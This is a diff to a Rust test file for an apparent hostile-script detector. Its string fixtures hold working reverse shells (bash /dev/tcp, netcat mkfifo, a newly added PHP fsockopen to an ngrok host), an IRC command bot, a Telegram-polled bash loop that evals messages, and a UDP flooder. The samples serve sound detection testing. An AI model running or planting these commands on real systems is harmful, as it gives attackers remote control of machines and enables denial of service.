@@ -16,7 +16,9 @@ fn back_connect_shells_in_each_language_are_found() {
     let shell = "#!/bin/sh\nwhile true; do bash -i >& /dev/tcp/198.51.100.9/4444 0>&1; sleep 60; done\n";
     let netcat =
         "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f\n";
-    for src in [perl, python, shell, netcat] {
+    // fresh111's `a.sh`: PHP's own socket handed to bash as its input and output.
+    let php = "php -r '$sock=fsockopen(\"0.tcp.ap.ngrok.io\",18251);popen(\"bash <&3 >&3 2>&3\", \"r\");'\n";
+    for src in [perl, python, shell, netcat, php] {
         assert_eq!(whys(src), [Why::RemoteShell], "{src}");
     }
 }
@@ -27,6 +29,13 @@ fn an_irc_bot_and_a_flooder_are_found() {
                print $s \"NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n\";\nprint $s \"JOIN $chan\\r\\n\";\n\
                while (<$s>) { if (/PRIVMSG $chan :!sh (.*)/) { my @o = `$1`; print $s \"PRIVMSG $chan :$_\" for @o; } }\n";
     assert!(whys(bot).contains(&Why::NetworkBot), "{:?}", whys(bot));
+    // fresh111's `server`: a Telegram chat's messages polled and run by bash.
+    let chat = "#!/bin/bash\nwhile true; do U=$(curl -s \"https://api.telegram.org/bot$T/getUpdates?offset=-1\")\n\
+                CMD=$(echo \"$U\" | grep -oP '\"text\":\"\\K[^\"]+'); OUT=$(eval \"$CMD\" 2>&1); sleep 2; done\n";
+    assert_eq!(whys(chat), [Why::NetworkBot]);
+    // A deploy script reporting to a chat reads no orders: quiet.
+    let report = "#!/bin/bash\nOUT=$(eval \"$BUILD\" 2>&1)\ncurl -s \"https://api.telegram.org/bot$T/sendMessage\" -d \"text=$OUT\"\n";
+    assert_eq!(whys(report), []);
     let flood = "import socket, random, time\ndef udp_flood(ip, port, secs):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
                  end = time.time() + secs\n    while time.time() < end:\n        s.sendto(random._urandom(1024), (ip, port))\n";
     assert_eq!(whys(flood), [Why::NetworkBot]);
